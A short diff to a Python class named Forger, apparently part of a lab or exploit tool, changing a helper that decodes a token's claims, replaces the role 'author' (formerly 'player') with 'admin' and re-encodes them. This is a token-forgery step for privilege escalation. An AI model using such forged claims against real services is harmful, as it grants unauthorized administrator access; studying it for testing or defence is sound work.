@@ -72,5 +72,5 @@ class Forger:
 
 def _promote(body: str) -> str:
     """The same claims, but of an administrator."""
-    claims = base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)).replace(b'"player"', b'"admin"')
+    claims = base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)).replace(b'"author"', b'"admin"')
     return base64.urlsafe_b64encode(claims).rstrip(b"=").decode()
